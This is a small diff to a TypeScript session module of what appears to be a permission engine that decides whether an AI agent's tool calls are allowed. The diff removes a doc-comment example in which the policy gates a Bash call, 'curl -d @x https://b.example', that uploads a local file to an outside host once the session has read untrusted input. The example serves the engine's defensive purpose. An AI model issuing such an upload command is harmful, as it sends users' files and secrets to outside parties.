@@ -1,15 +1,8 @@
+import { definedFields } from '../call/defined-fields.ts';
 import type { Order } from './orders.ts';
 
 /**
  * What is known of a session when a call is decided: a value, which only grows but for what a person takes away.
- *
- * @example
- * ```ts
- * import { decideCall, compilePolicy, type Session } from '@permesso/engine';
- * const policy = compilePolicy([{ allow: ['Effect(send)'], ask: [{ rule: 'Effect(send)', after: 'untrusted' }] }]);
- * const session: Session = { labels: [{ label: 'untrusted', source: 'a.example', at: 0 }], orders: [] };
- * decideCall({ tool: 'Bash', input: { command: 'curl -d @x https://b.example' } }, { policy, session });
- * ```
  */
 export interface Session {
   readonly labels: readonly SessionLabel[];
@@ -21,7 +14,7 @@ export interface Session {
   readonly unreadable?: string;
 }
 
-/** A label, what brought it and when. */
+/** What a session has read or done, and what brought it. */
 export interface SessionLabel {
   readonly label: string;
   /** A host, a server, a program, a folder. */
@@ -82,6 +75,6 @@ export function unionOf(sessions: readonly Session[]): Session {
     labels: sessions.reduce<Session>((all, { labels }) => withLabels(all, labels), emptySession).labels,
     // What was ordered in one of them was not ordered in another.
     orders: sessions.length === 1 ? (sessions[0]?.orders ?? []) : [],
-    ...(unreadable === undefined ? {} : { unreadable }),
+    ...definedFields({ unreadable }),
   };
 }
